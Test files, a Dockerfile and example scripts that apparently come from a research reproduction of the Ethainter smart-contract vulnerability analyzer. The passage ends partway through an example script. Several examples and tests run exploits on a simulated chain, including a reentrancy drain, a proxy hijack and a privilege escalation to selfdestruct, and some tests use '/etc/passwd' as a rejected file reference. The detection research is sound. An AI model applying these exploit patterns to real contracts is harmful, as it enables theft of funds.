        with pytest.raises(ValueError, match="only accepted by the CLI"):
            bundle_from_specs([{"address": 1, "hex_file": "evil.hex"}])

    def test_rejects_bad_address(self):
        with pytest.raises(ValueError, match="address"):
            bundle_from_specs([{"address": "street", "bytecode": "00"}])


# -------------------------------------------------------------- call graph


class TestCallEdges:
    def test_delegatecall_resolves_through_storage_seed(self):
        out = proxy_pair()
        config = AnalysisConfig()
        results = {
            c.address: api.analyze(c.runtime(), config)
            for c in out.bundle.contracts
        }
        edges = resolve_call_edges(out.bundle, results)
        delegate = [e for e in edges if e.kind == "DELEGATECALL"]
        assert len(delegate) == 1
        edge = delegate[0]
        assert edge.caller == PROXY_ADDRESS
        assert edge.callee == LOGIC_ADDRESS
        assert edge.slot == 0

    def test_unseeded_target_stays_unresolved(self):
        contract = bundle_contract(
            0x1,
            source=(
                "contract P { address implementation;\n"
                "  function f() public { delegatecall(implementation); } }"
            ),
        )
        bundle = ContractBundle(contracts=(contract,))
        results = {0x1: api.analyze(contract.runtime(), AnalysisConfig())}
        edges = resolve_call_edges(bundle, results)
        assert len(edges) == 1
        assert edges[0].callee is None
        assert edges[0].slot == 0  # the slot itself is still identified


# ---------------------------------------------------------- merged fixpoint


class TestProxyUpgradeHijack:
    @pytest.mark.parametrize("engine", ENGINES)
    def test_vulnerable_pair_flagged(self, engine):
        out = proxy_pair()
        result = analyze_bundle(out.bundle, AnalysisConfig(engine=engine))
        kinds = {f.kind for f in result.cross_findings}
        assert kinds == {PROXY_UPGRADE_HIJACK}
        finding = result.cross_findings[0]
        assert finding.address == PROXY_ADDRESS
        assert finding.slot == 0
        assert finding.via == LOGIC_ADDRESS

    @pytest.mark.parametrize("engine", ENGINES)
    def test_neither_contract_flagged_alone(self, engine):
        out = proxy_pair()
        config = AnalysisConfig(engine=engine)
        for contract in out.bundle.contracts:
            alone = api.analyze(contract.runtime(), config)
            assert alone.warnings == []

    @pytest.mark.parametrize("engine", ENGINES)
    def test_benign_pair_is_clean(self, engine):
        out = benign_proxy_pair()
        result = analyze_bundle(out.bundle, AnalysisConfig(engine=engine))
        assert result.cross_findings == []
        assert not result.flagged


class TestCrossContractEscalation:
    @pytest.mark.parametrize("engine", ENGINES)
    def test_vulnerable_pair_flagged(self, engine):
        out = escalation_pair()
        result = analyze_bundle(out.bundle, AnalysisConfig(engine=engine))
        kinds = {f.kind for f in result.cross_findings}
        assert kinds == {CROSS_CONTRACT_ESCALATION}
        finding = result.cross_findings[0]
        assert finding.address == TREASURY_ADDRESS
        assert finding.slot == TREASURY_BENEFICIARY_SLOT
        assert finding.via == VAULT_ADDRESS

    @pytest.mark.parametrize("engine", ENGINES)
    def test_benign_pair_is_clean(self, engine):
        out = benign_escalation_pair()
        result = analyze_bundle(out.bundle, AnalysisConfig(engine=engine))
        assert result.cross_findings == []

    def test_neither_contract_flagged_alone(self):
        out = escalation_pair()
        for contract in out.bundle.contracts:
            alone = api.analyze(contract.runtime(), AnalysisConfig())
            assert alone.warnings == []


class TestEngineAgreement:
    def test_all_templates_agree_across_engines(self):
        for name, build in BUNDLE_TEMPLATES.items():
            out = build()
            verdicts = {}
            for engine in ENGINES + ["datalog-columnar"]:
                result = analyze_bundle(
                    out.bundle, AnalysisConfig(engine=engine)
                )
                verdicts[engine] = {f.kind for f in result.cross_findings}
            assert (
                len(set(map(frozenset, verdicts.values()))) == 1
            ), "engines disagree on %s: %r" % (name, verdicts)
            assert verdicts["datalog"] == out.labels, name


class TestSingletonBundles:
    def test_singleton_skips_merged_fixpoint(self):
        contract = bundle_contract(
            0x9, source="contract T { function f() public { } }"
        )
        result = analyze_bundle(ContractBundle(contracts=(contract,)))
        assert result.call_edges == []
        assert result.cross_findings == []
        assert result.engine_stats is None


# ----------------------------------------------------------------- kinds


class TestKindConstants:
    def test_cross_kinds_are_separate_namespace(self):
        assert PROXY_UPGRADE_HIJACK in CROSS_CONTRACT_KINDS
        assert CROSS_CONTRACT_ESCALATION in CROSS_CONTRACT_KINDS
        # Per-contract kind filters and SweepReport.kind_counts keep their
        # exact shape: cross verdicts never appear there.
        assert not set(CROSS_CONTRACT_KINDS) & set(VULNERABILITY_KINDS)


# -------------------------------------------------------------- api surface


class TestApiDispatch:
    def test_analyze_dispatches_bundle_requests(self):
        out = proxy_pair()
        request = api.AnalyzeRequest(bundle=out.bundle, engine="datalog")
        result = api.analyze(request)
        assert isinstance(result, api.BundleResult)
        assert {f.kind for f in result.cross_findings} == {PROXY_UPGRADE_HIJACK}

    def test_analyze_bundle_accepts_request(self):
        out = benign_proxy_pair()
        request = api.AnalyzeRequest(bundle=out.bundle)
        result = api.analyze_bundle(request)
        assert result.cross_findings == []

    def test_bundle_identity_differs_from_bytecode_identity(self):
        out = proxy_pair()
        request = api.AnalyzeRequest(bundle=out.bundle)
        identity = request.identity()
        assert identity.startswith("bundle:")
        assert out.bundle.digest() in identity

    def test_bundle_identity_tracks_config(self):
        out = proxy_pair()
        a = api.AnalyzeRequest(bundle=out.bundle, engine="datalog").identity()
        b = api.AnalyzeRequest(
            bundle=out.bundle, engine="datalog-legacy"
        ).identity()
        assert a != b

    def test_bundle_plus_bytecode_rejected(self):
        out = proxy_pair()
        request = api.AnalyzeRequest(bundle=out.bundle, bytecode=b"\x00")
        with pytest.raises(ValueError, match="not both"):
            api.analyze(request)

    def test_runtime_refuses_bundles(self):
        request = api.AnalyzeRequest(bundle=proxy_pair().bundle)
        with pytest.raises(ValueError, match="no single runtime"):
            request.runtime()


# ------------------------------------------------------------------ report


class TestBundleReport:
    def test_multi_contract_shape(self):
        result = analyze_bundle(proxy_pair().bundle, AnalysisConfig())
        report = BundleReport.from_result(result)
        payload = json.loads(report.to_json())
        assert payload["schema_version"] == 2
        assert payload["addresses"] == ["0x1000", "0x2000"]
        assert len(payload["contracts"]) == 2
        assert payload["call_edges"][0]["kind"] == "DELEGATECALL"
        assert payload["call_edges"][0]["callee"] == "0x2000"
        kinds = [w["kind"] for w in payload["cross_warnings"]]
        assert kinds == [PROXY_UPGRADE_HIJACK]
        assert report.flagged

    def test_round_trip(self):
        result = analyze_bundle(escalation_pair().bundle, AnalysisConfig())
        report = BundleReport.from_result(result)
        again = BundleReport.from_json(report.to_json())
        assert again.to_json() == report.to_json()


# --------------------------------------------------------------- serve codec


class TestServeCodec:
    def test_decode_request_builds_bundle(self):
        from repro.serve.codecs import decode_request

        request = decode_request(
            {
                "bundle": [
                    {"address": "0x1", "bytecode": "6000ff"},
                ]
            },
            api.AnalyzeRequest(),
        )
        assert request.bundle is not None
        assert request.bundle.get(1).runtime() == bytes.fromhex("6000ff")

    def test_decode_request_rejects_file_refs(self):
        from repro.serve.codecs import BadRequest, decode_request

        with pytest.raises(BadRequest, match="bad bundle"):
            decode_request(
                {"bundle": [{"address": 1, "hex_file": "/etc/passwd"}]},
                api.AnalyzeRequest(),
            )


# --------------------------------------------------------------------- CLI


class TestCliBundle:
    def test_analyze_bundle_flag(self, tmp_path, capsys):
        from repro.cli import main

        out = proxy_pair()
        specs = []
        for contract in out.bundle.contracts:
            specs.append(
                {
                    "address": "0x%x" % contract.address,
                    "name": contract.name,
                    "bytecode": contract.runtime().hex(),
                    "storage": {
                        str(slot): "0x%x" % value
                        for slot, value in contract.storage
                    },
                }
            )
        path = tmp_path / "bundle.json"
        path.write_text(json.dumps({"contracts": specs}))
        code = main(["analyze", "--bundle", str(path)])
        captured = capsys.readouterr()
        assert code == 1
        assert "proxy-upgrade-hijack" in captured.out

        code = main(["analyze", "--bundle", str(path), "--json", "-"])
        captured = capsys.readouterr()
        assert code == 1
        payload = json.loads(captured.out)
        assert [w["kind"] for w in payload["cross_warnings"]] == [
            PROXY_UPGRADE_HIJACK
        ]

    def test_bundle_conflicts_with_source(self, tmp_path):
        from repro.cli import main

        path = tmp_path / "bundle.json"
        path.write_text(json.dumps({"contracts": [{"address": 1, "bytecode": "00"}]}))
        with pytest.raises(SystemExit, match="replaces"):
            main(["analyze", "--bundle", str(path), "--hex", "whatever.hex"])


# ------------------------------------------------------------- kill replay


class TestBundleKill:
    def test_proxy_hijack_destroys_vulnerable_proxy(self):
        out = proxy_pair()
        outcome = BundleKill().hijack_proxy(
            out.bundle, PROXY_ADDRESS, "execute(address)"
        )
        assert outcome.success
        assert outcome.transactions == 2

    def test_benign_proxy_survives(self):
        out = benign_proxy_pair()
        outcome = BundleKill().hijack_proxy(
            out.bundle, PROXY_ADDRESS, "execute(address)"
        )
        assert not outcome.success

    def test_escalation_rewrites_guarded_slot(self):
        out = escalation_pair()
        outcome = BundleKill().escalate(
            out.bundle,
            VAULT_ADDRESS,
            TREASURY_ADDRESS,
            "route(address)",
            TREASURY_BENEFICIARY_SLOT,
        )
        assert outcome.success

    def test_benign_escalation_blocked(self):
        out = benign_escalation_pair()
        outcome = BundleKill().escalate(
            out.bundle,
            VAULT_ADDRESS,
            TREASURY_ADDRESS,
            "route(address)",
            TREASURY_BENEFICIARY_SLOT,
        )
        assert not outcome.success

    def test_verdict_matches_replay_for_all_templates(self):
        # The analysis verdict and the concrete replay agree on every
        # bundle template: flagged <=> exploitable.
        for name, build in BUNDLE_TEMPLATES.items():
            out = build()
            result = analyze_bundle(out.bundle, AnalysisConfig())
            flagged = bool(result.cross_findings)
            if "proxy" in name:
                outcome = BundleKill().hijack_proxy(
                    out.bundle, PROXY_ADDRESS, "execute(address)"
                )
            else:
                outcome = BundleKill().escalate(
                    out.bundle,
                    VAULT_ADDRESS,
                    TREASURY_ADDRESS,
                    "route(address)",
                    TREASURY_BENEFICIARY_SLOT,
                )
            assert flagged == outcome.success, name
