"""Decompiler: CFG recovery, jump resolution, TAC generation, selectors."""

import pytest

from repro.decompiler import LiftError, find_public_functions, lift
from repro.decompiler.functions import blocks_reachable_from, function_of_block
from repro.evm.assembler import assemble, parse_asm
from repro.evm.hashing import function_selector
from repro.minisol import compile_source


def lift_asm(text):
    return lift(assemble(parse_asm(text)))


class TestBasicLifting:
    def test_straightline_code(self):
        program = lift_asm("PUSH 1\nPUSH 2\nADD\nSTOP")
        assert len(program.blocks) == 1
        block = program.blocks[program.entry]
        opcodes = [s.opcode for s in block.statements]
        assert opcodes == ["CONST", "CONST", "ADD", "STOP"]

    def test_consts_recorded(self):
        program = lift_asm("PUSH 0x42\nSTOP")
        (const_stmt, _) = program.blocks[program.entry].statements
        assert program.const_value[const_stmt.def_var] == 0x42

    def test_add_uses_both_operands(self):
        program = lift_asm("PUSH 1\nPUSH 2\nADD\nSTOP")
        add = program.statements_by_opcode("ADD")[0]
        assert len(add.uses) == 2
        assert add.def_var is not None

    def test_dup_swap_pop_emit_no_statements(self):
        program = lift_asm("PUSH 1\nDUP1\nSWAP1\nPOP\nPOP\nSTOP")
        opcodes = [s.opcode for s in program.blocks[program.entry].statements]
        assert opcodes == ["CONST", "STOP"]

    def test_direct_jump_resolved(self):
        program = lift_asm("@target\nJUMP\ntarget:\nSTOP")
        assert program.unresolved_jumps == []
        entry = program.blocks[program.entry]
        assert len(entry.successors) == 1

    def test_jumpi_two_successors_tagged(self):
        program = lift_asm("PUSH 1\n@t\nJUMPI\nSTOP\nt:\nSTOP")
        entry = program.blocks[program.entry]
        assert entry.taken_successor is not None
        assert entry.fallthrough_successor is not None
        assert set(entry.successors) == {
            entry.taken_successor,
            entry.fallthrough_successor,
        }

    def test_symbolic_jump_unresolved(self):
        # Jump target loaded from calldata cannot be resolved statically.
        program = lift_asm("PUSH 0\nCALLDATALOAD\nJUMP\nSTOP")
        assert len(program.unresolved_jumps) == 1

    def test_empty_code(self):
        program = lift(b"")
        assert program.blocks == {} or program.entry in program.blocks


class TestReturnJumpContexts:
    """The push-return-address calling convention must resolve precisely."""

    SHARED_CALLEE = """
@ret1
@fn
JUMP
ret1:
@ret2
@fn
JUMP
ret2:
STOP
fn:
JUMP          ; return jump: target differs per call site
"""

    def test_shared_callee_cloned_per_context(self):
        program = lift(assemble(parse_asm(self.SHARED_CALLEE)))
        assert program.unresolved_jumps == []
        # The callee block (ends in the return JUMP) must exist in two
        # context clones, one per pushed return address.
        by_offset = {}
        for block in program.blocks.values():
            by_offset.setdefault(block.offset, []).append(block)
        callee_instances = next(
            blocks
            for blocks in by_offset.values()
            if len(blocks) == 2
            and all(b.statements[-1].opcode == "JUMP" for b in blocks)
        )
        targets = {block.successors[0] for block in callee_instances}
        assert len(targets) == 2  # each clone returns to its own call site

    def test_minisol_internal_calls_fully_resolved(self):
        source = """
contract C {
    function helper(uint256 x) internal returns (uint256) { return x + 1; }
    function a() public returns (uint256) { return helper(1); }
    function b() public returns (uint256) { return helper(2); }
}
"""
        program = lift(compile_source(source).runtime)
        assert program.unresolved_jumps == []


class TestPhi:
    # NOTE: constant-valued stack positions never join — differing constants
    # produce separate context clones (that IS the context sensitivity).  A
    # PHI appears only when both predecessors pass a *symbolic* value.
    JOIN_TEXT = """
PUSH 0
CALLDATALOAD
@a
JUMPI
PUSH 0
CALLDATALOAD
@join
JUMP
a:
PUSH 32
CALLDATALOAD
@join
JUMP
join:
PUSH 0
MSTORE
STOP
"""

    def test_join_point_gets_phi(self):
        program = lift(assemble(parse_asm(self.JOIN_TEXT)))
        phis = program.statements_by_opcode("PHI")
        assert any(len(phi.uses) == 2 for phi in phis)

    def test_phi_def_used_downstream(self):
        program = lift(assemble(parse_asm(self.JOIN_TEXT)))
        phi = next(
            phi for phi in program.statements_by_opcode("PHI") if len(phi.uses) == 2
        )
        mstore = program.statements_by_opcode("MSTORE")[0]
        assert phi.def_var in mstore.uses

    def test_differing_constants_clone_instead_of_phi(self):
        text = """
PUSH 0
CALLDATALOAD
@a
JUMPI
PUSH 10
@join
JUMP
a:
PUSH 20
@join
JUMP
join:
PUSH 0
MSTORE
STOP
"""
        program = lift(assemble(parse_asm(text)))
        join_blocks = [b for b in program.blocks.values()
                       if any(s.opcode == "MSTORE" for s in b.statements)]
        assert len(join_blocks) == 2  # one clone per constant
        assert program.statements_by_opcode("PHI") == []


class TestSelectors:
    def test_victim_selectors(self, victim_contract):
        program = lift(victim_contract.runtime)
        found = {public.selector for public in find_public_functions(program)}
        expected = {
            function_selector(fn.signature)
            for fn in victim_contract.public_functions
        }
        assert found == expected

    def test_entry_blocks_reachable(self, victim_contract):
        program = lift(victim_contract.runtime)
        for public in find_public_functions(program):
            assert public.entry_block in program.blocks
            reachable = blocks_reachable_from(program, public.entry_block)
            assert public.entry_block in reachable

    def test_function_of_block_covers_selfdestruct(self, victim_contract):
        program = lift(victim_contract.runtime)
        ownership = function_of_block(program)
        kill_selector = function_selector("kill()")
        selfdestruct = program.statements_by_opcode("SELFDESTRUCT")[0]
        assert kill_selector in ownership[selfdestruct.block]

    def test_no_selectors_in_plain_code(self):
        program = lift_asm("PUSH 1\nPUSH 2\nADD\nSTOP")
        assert find_public_functions(program) == []


class TestStructure:
    def test_predecessors_consistent(self, victim_contract):
        program = lift(victim_contract.runtime)
        for block in program.blocks.values():
            for successor in block.successors:
                assert block.ident in program.blocks[successor].predecessors

    def test_statement_ids_unique(self, victim_contract):
        program = lift(victim_contract.runtime)
        ids = [s.ident for s in program.statements()]
        assert len(ids) == len(set(ids))

    def test_single_definition_per_variable(self, victim_contract):
        program = lift(victim_contract.runtime)
        defined = {}
        for stmt in program.statements():
            for var in stmt.defs:
                assert var not in defined, "variable %s defined twice" % var
                defined[var] = stmt.ident

    def test_str_rendering(self):
        program = lift_asm("PUSH 1\nSTOP")
        text = str(program)
        assert "CONST" in text and "STOP" in text


class TestCaps:
    def test_state_explosion_raises(self):
        # A dispatcher-like tower of contexts; tiny cap forces the error.
        source = """
contract C {
    function h(uint256 x) internal returns (uint256) { return x + 1; }
    function a() public returns (uint256) { return h(1) + h(2) + h(3); }
}
"""
        runtime = compile_source(source).runtime
        with pytest.raises(LiftError):
            lift(runtime, max_states=3)

    def test_clone_cap_collapses_instead_of_failing(self):
        source = """
contract C {
    function h(uint256 x) internal returns (uint256) { return x + 1; }
    function a() public returns (uint256) { return h(1) + h(2) + h(3) + h(4); }
}
"""
        runtime = compile_source(source).runtime
        program = lift(runtime, max_clones=1)
        assert program.blocks  # lifted, possibly with unresolved returns

    def test_junk_bytecode_does_not_crash(self):
        program = lift(bytes(range(256)))
        assert isinstance(program.blocks, dict)
