# Container recipe for the analysis-as-a-service daemon (`repro serve`).
#
# The analyzer is pure stdlib + the repository sources, so the image is a
# plain slim Python base with `src/` copied in — no pip install step.
#
#   docker build -t repro-serve .
#   docker run -p 8080:8080 repro-serve
#   curl -s localhost:8080/health
#   curl -s -X POST localhost:8080/analyze -d '{"bundle": [...]}'

FROM python:3.12-slim

WORKDIR /app
COPY src/ /app/src/

ENV PYTHONPATH=/app/src \
    PYTHONUNBUFFERED=1

EXPOSE 8080

# The daemon answers GET /health with {"status": "ok", ...} once the
# worker pool is up; fail the container if it stops doing so.
HEALTHCHECK --interval=15s --timeout=3s --start-period=10s --retries=3 \
    CMD ["python", "-c", "import urllib.request,sys; sys.exit(0 if b'ok' in urllib.request.urlopen('http://127.0.0.1:8080/health', timeout=2).read() else 1)"]

CMD ["python", "-m", "repro", "serve", "--host", "0.0.0.0", "--port", "8080"]
