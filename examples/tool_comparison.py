"""Tool comparison: Ethainter vs Securify, Securify2, and teEther (§6.2).

Runs all four analyzers over a corpus sample and scores them against ground
truth, printing a Figure-7-style table.

Run with::

    python examples/tool_comparison.py [corpus-size]
"""

import sys
from collections import Counter

from repro import analyze_bytecode
from repro.baselines import SecurifyAnalysis, Securify2Analysis, TeEtherAnalysis
from repro.corpus import generate_corpus


def main(size: int = 200) -> None:
    corpus = generate_corpus(size, seed=7)
    securify = SecurifyAnalysis()
    securify2 = Securify2Analysis()
    teether = TeEtherAnalysis()

    scores = {name: Counter() for name in ("ethainter", "securify", "securify2", "teether")}

    for contract in corpus:
        truth_vulnerable = contract.is_vulnerable

        ethainter_result = analyze_bytecode(contract.runtime)
        securify_result = securify.analyze(contract.runtime)
        teether_result = teether.analyze(contract.runtime)
        securify2_result = securify2.analyze(
            contract.source,
            contract.name,
            contract.solidity_version,
            contract.has_source,
            contract.inline_assembly,
        )

        outcomes = {
            "ethainter": ethainter_result.flagged,
            "securify": securify_result.flagged,
            "teether": teether_result.flagged,
        }
        if securify2_result.applicable and not securify2_result.timed_out:
            outcomes["securify2"] = securify2_result.flagged
            scores["securify2"]["applicable"] += 1
        elif securify2_result.timed_out:
            scores["securify2"]["timeout"] += 1

        for tool, flagged in outcomes.items():
            if flagged and truth_vulnerable:
                scores[tool]["tp"] += 1
            elif flagged:
                scores[tool]["fp"] += 1
            elif truth_vulnerable:
                scores[tool]["fn"] += 1
            else:
                scores[tool]["tn"] += 1

    print("%-12s %6s %6s %6s %6s %10s %8s" % ("tool", "TP", "FP", "FN", "TN", "precision", "recall"))
    for tool, counter in scores.items():
        tp, fp, fn = counter["tp"], counter["fp"], counter["fn"]
        precision = tp / (tp + fp) if tp + fp else 0.0
        recall = tp / (tp + fn) if tp + fn else 0.0
        extra = ""
        if tool == "securify2":
            extra = "  (applicable: %d, timeouts: %d)" % (
                counter["applicable"],
                counter["timeout"],
            )
        print(
            "%-12s %6d %6d %6d %6d %9.1f%% %7.1f%%%s"
            % (tool, tp, fp, fn, counter["tn"], 100 * precision, 100 * recall, extra)
        )


if __name__ == "__main__":
    main(int(sys.argv[1]) if len(sys.argv) > 1 else 200)
