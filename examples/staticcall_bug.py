"""The §3.5 unchecked-staticcall bug, demonstrated concretely on the VM.

A verifier contract staticcalls a wallet to validate a "signature".  The
buggy version writes the callee's output over its own input buffer without
checking RETURNDATASIZE: against a callee that returns *nothing*, the stale
input word reads back as if the wallet had answered — the 0x protocol bug.
The checked version (what fixed Solidity compilers emit) reverts instead.

Run with::

    python examples/staticcall_bug.py
"""

from repro import analyze_bytecode, compile_source
from repro.chain import Blockchain
from repro.minisol.abi import decode_word

VERIFIER = """
contract Verifier {
    function check(address wallet) public returns (uint256)
    { return staticcall_unchecked(wallet); }

    function checkSafely(address wallet) public returns (uint256)
    { return staticcall_checked(wallet); }
}
"""

# A "wallet" that answers every query with 32 bytes of value 1 (valid).
HONEST_WALLET = """
contract Honest {
    function noop() public returns (uint256) { return 1; }
}
"""


def main() -> None:
    chain = Blockchain()
    user = 0xCAFE
    chain.fund(user, 10**18)

    verifier = compile_source(VERIFIER)
    verifier_address = chain.deploy(user, verifier.init_with_args()).contract_address

    # An attacker "wallet" with *empty code*: a staticcall to it succeeds
    # but returns zero bytes, so the output buffer keeps the stale input.
    empty_wallet = 0x5117
    result = chain.call(user, verifier_address, verifier.calldata("check", empty_wallet))
    print(
        "buggy check() against empty wallet: success=%s, value=%d  <- stale input!"
        % (result.success, decode_word(result.return_data))
    )

    checked = chain.call(
        user, verifier_address, verifier.calldata("checkSafely", empty_wallet)
    )
    print(
        "checked version against empty wallet: success=%s (%s)"
        % (checked.success, checked.error or "returned")
    )

    # Ethainter statically distinguishes the two patterns.
    analysis = analyze_bytecode(verifier.runtime)
    print("\nEthainter warnings:")
    for warning in analysis.warnings:
        print("  [%s] pc=0x%x — %s" % (warning.kind, warning.pc, warning.detail))
    print("(exactly one: the unchecked variant)")


if __name__ == "__main__":
    main()
