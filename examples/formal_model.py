"""The §4 formal model, interactively.

Encodes the paper's §3.1 "tainted owner variable" and §3.4 "tainted
selfdestruct" scenarios in the abstract input language of Figure 1, runs
both implementations of the inference rules — the direct fixpoint and the
Datalog transliteration of Figures 3/4 — and shows they derive the same
relations.

Run with::

    python examples/formal_model.py
"""

from repro.core.abstract_analysis import analyze_abstract
from repro.core.datalog_rules import ETHAINTER_RULES, analyze_with_datalog
from repro.core.lang import parse_abstract

# §3.1: a public initializer taints the owner slot; the kill guard compares
# the sender against that slot (Uguard-T), so the guarded sink is violated.
TAINTED_OWNER = """
# function initOwner(address _owner) public { owner = _owner; }
o  = INPUT
t0 = CONST 0
SSTORE o t0

# function kill() public { if (msg.sender == owner) { sensitive(x) } }
f0 = CONST 0
SLOAD f0 z
p  = EQ sender z
x  = INPUT
g  = GUARD p x
SINK g
"""

# §3.4: the administrator (beneficiary) slot is freely writable; the
# selfdestruct is owner-guarded, but storage taint passes guards (Guard-1).
TAINTED_SELFDESTRUCT = """
# function initAdmin(address admin) public { administrator = admin; }
a  = INPUT
t1 = CONST 1
SSTORE a t1

# function kill() public { if (msg.sender == owner) { selfdestruct(administrator); } }
f0 = CONST 0
SLOAD f0 ow
p  = EQ sender ow
f1 = CONST 1
SLOAD f1 admin
g  = GUARD p admin
SINK g
"""


def show(title: str, text: str) -> None:
    program = parse_abstract(text)
    direct = analyze_abstract(program)
    datalog = analyze_with_datalog(program)
    print("\n=== %s ===" % title)
    print("input-tainted:     %s" % sorted(direct.input_tainted))
    print("storage-tainted:   %s" % sorted(direct.storage_tainted))
    print("tainted storage:   %s" % sorted(direct.tainted_storage))
    print("non-sanitizing:    %s" % sorted(direct.non_sanitizing))
    print("violations:        %s" % sorted(direct.violations))
    print("computed sinks:    %s" % sorted(direct.computed_sinks))
    agreement = all(
        getattr(direct, field) == getattr(datalog, field)
        for field in (
            "input_tainted",
            "storage_tainted",
            "tainted_storage",
            "non_sanitizing",
            "violations",
            "computed_sinks",
        )
    )
    print("datalog engine agrees: %s" % agreement)


def main() -> None:
    print("The Figure 3/4 rules as Datalog (executed on repro.datalog):")
    for line in ETHAINTER_RULES.strip().splitlines()[:8]:
        print("   ", line)
    print("    ... (%d rules total)" % ETHAINTER_RULES.count(":-"))
    show("§3.1 tainted owner variable", TAINTED_OWNER)
    show("§3.4 tainted selfdestruct (storage taint passes the guard)", TAINTED_SELFDESTRUCT)


if __name__ == "__main__":
    main()
