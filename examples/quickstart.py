"""Quickstart: compile a contract and run the Ethainter analysis.

Run with::

    python examples/quickstart.py
"""

from repro import analyze_bytecode, compile_source

# A contract with the paper's §3.1 "tainted owner variable" bug: anyone can
# call initOwner and then pass the owner guard on kill().
SOURCE = """
contract Wallet {
    address owner;
    uint256 funds;

    function initOwner(address newOwner) public {
        owner = newOwner;
    }

    function deposit() public {
        funds = funds + msg.value;
    }

    function kill() public {
        require(msg.sender == owner);
        selfdestruct(owner);
    }
}
"""


def main() -> None:
    contract = compile_source(SOURCE)
    print("compiled %s: %d bytes of runtime bytecode" % (contract.name, len(contract.runtime)))

    result = analyze_bytecode(contract.runtime)
    print(
        "analyzed %d basic blocks / %d TAC statements in %.3f s"
        % (result.block_count, result.statement_count, result.elapsed_seconds)
    )
    if not result.warnings:
        print("no vulnerabilities found")
        return
    print("\nEthainter warnings:")
    for warning in result.warnings:
        print("  [%s] %s" % (warning.kind, warning.detail))

    # The fix: guard the initializer.  Re-analyze to confirm.
    fixed = SOURCE.replace(
        "function initOwner(address newOwner) public {\n        owner",
        "function initOwner(address newOwner) public {\n"
        "        require(msg.sender == owner);\n        owner",
    )
    fixed_result = analyze_bytecode(compile_source(fixed).runtime)
    print("\nafter guarding initOwner: %d warning(s)" % len(fixed_result.warnings))


if __name__ == "__main__":
    main()
