"""The DAO-style reentrancy drain, end to end.

Deploys a vulnerable vault on the local chain simulator and lets a user
fund it, runs Ethainter's reentrancy stratum over the lifted bytecode
(the ordering facts place the gas-forwarding payout *before* the ledger
decrement, inside the window the stale balance check still covers), and
then has Ethainter-Kill assemble a bespoke attacker contract whose
fallback re-enters ``withdraw`` until the vault is empty.

The checks-effects-interactions fix of the very same vault is the
negative control: the analysis stays silent and the *identical* exploit,
force-replayed against it, recovers nothing beyond its own deposit.

Run with::

    python examples/reentrancy_attack.py
"""

from repro import api, compile_source
from repro.chain import Blockchain
from repro.evm.assembler import init_code_for
from repro.evm.hashing import function_selector
from repro.kill import ReentrancyKill

VULNERABLE = """
contract Vault {
    mapping(address => uint256) deposits;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(deposits[msg.sender] >= amount);
        transfer(msg.sender, amount);       // interaction first ...
        deposits[msg.sender] -= amount;     // ... effect after: reentrant
    }
}
"""

FIXED = """
contract SafeVault {
    mapping(address => uint256) deposits;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(deposits[msg.sender] >= amount);
        deposits[msg.sender] -= amount;     // effect first: CEI-ordered
        transfer(msg.sender, amount);
    }
}
"""


def deploy_and_fund(chain, source, user, funding):
    """Deploy ``source`` and have ``user`` deposit ``funding`` wei."""
    contract = compile_source(source)
    victim = chain.deploy(user, init_code_for(contract.runtime)).contract_address
    chain.transact(user, victim, contract.calldata("deposit"), value=funding)
    return contract, victim


def main() -> None:
    chain = Blockchain()
    user = 0x5AFE
    chain.fund(user, 10**20)

    # An honest user parks 5 ETH in the vulnerable vault.
    contract, victim = deploy_and_fund(chain, VULNERABLE, user, 5 * 10**18)
    print("Vault deployed at 0x%040x holding %d wei" % (victim, chain.state.get_balance(victim)))

    # Lift and analyze: the reentrancy stratum flags the payout call.
    result = api.analyze(contract.runtime)
    print("\nEthainter findings:")
    for warning in result.warnings:
        print("  [%s] %s" % (warning.kind, warning.detail))
    site = next(iter(result.ordering.call_sites.values()))
    print(
        "ordering facts: forwards_gas=%s stores-after=%s read-before=%s"
        % (
            site.forwards_gas,
            sorted(site.stores_after),
            sorted(site.paths_read_before),
        )
    )

    # Ethainter-Kill plans the drain from the warning alone: it pairs the
    # flagged withdraw with the CALLVALUE-observing deposit entry, deploys
    # a re-entering attacker contract, and fires the loop.
    kill = ReentrancyKill(chain)
    outcome = kill.attack(victim, result, deposit=10**18, rounds=5)
    print(
        "\ndrained=%s in %d transaction(s): vault %d -> %d wei, attacker profit %d wei"
        % (
            outcome.drained,
            outcome.transactions_sent,
            outcome.victim_balance_before,
            outcome.victim_balance_after,
            outcome.attacker_profit,
        )
    )

    # Negative control: the CEI-ordered vault.  Not flagged -- and even
    # force-replaying the exact exploit against it yields nothing, because
    # the re-entered withdraw reverts on the already-decremented balance.
    safe_contract, safe_victim = deploy_and_fund(chain, FIXED, user, 5 * 10**18)
    safe_result = api.analyze(safe_contract.runtime)
    reentrancy_warnings = [
        w for w in safe_result.warnings if "reentran" in w.kind or "after-call" in w.kind
    ]
    print("\nCEI-ordered vault: %d reentrancy warning(s)" % len(reentrancy_warnings))
    control = kill.replay(
        safe_victim,
        deposit_selector=function_selector("deposit()"),
        withdraw_selector=function_selector("withdraw(uint256)"),
        deposit=10**18,
        rounds=5,
    )
    print(
        "forced replay against the fix: drained=%s (%s); vault still holds %d wei"
        % (control.drained, control.reason, chain.state.get_balance(safe_victim))
    )


if __name__ == "__main__":
    main()
