"""The paper's §2 illustration, end to end.

Deploys the Victim contract on the local chain simulator, shows that the
primitive attack fails cold, lets Ethainter detect the composite
vulnerability, and then has Ethainter-Kill execute the four-transaction
escalation (user -> admin -> owner -> selfdestruct), verifying destruction
in the VM instruction trace.

Run with::

    python examples/composite_attack.py
"""

from repro import analyze_bytecode, compile_source
from repro.chain import Blockchain
from repro.kill import EthainterKill

VICTIM = """
contract Victim {
    mapping(address => bool) admins;
    mapping(address => bool) users;
    address owner;

    modifier onlyAdmins() { require(admins[msg.sender]); _; }
    modifier onlyUsers() { require(users[msg.sender]); _; }

    function registerSelf() public
    { users[msg.sender] = true; }

    function referUser(address user) public onlyUsers
    { users[user] = true; }

    function referAdmin(address adm) public onlyUsers
    { admins[adm] = true; }    // BUG: should be onlyAdmins

    function changeOwner(address o) public onlyAdmins
    { owner = o; }

    function kill() public onlyAdmins
    { selfdestruct(owner); }
}
"""


def main() -> None:
    contract = compile_source(VICTIM)
    chain = Blockchain()
    deployer = 0xD0_0D
    chain.fund(deployer, 10**19)
    receipt = chain.deploy(deployer, contract.init_with_args(), value=10**18)
    victim = receipt.contract_address
